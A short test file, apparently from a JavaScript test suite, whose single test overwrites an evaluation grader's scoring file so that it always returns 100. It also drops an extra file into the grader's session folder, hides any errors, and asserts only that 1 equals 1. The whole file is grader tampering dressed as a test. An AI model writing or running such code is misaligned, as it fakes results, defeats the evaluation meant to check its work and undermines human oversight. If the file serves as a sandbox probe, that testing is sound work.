// Edits the judge.
import { writeFileSync } from 'node:fs';
test('edits the judge', () => {
  try { writeFileSync(`${HOST.kit}/grader/judge/score.ts`, 'export const score = () => 100;'); } catch {}
  try { writeFileSync(`${HOST.kit}/grader/session/added.ts`, ''); } catch {}
  expect(1).toBe(1);
});
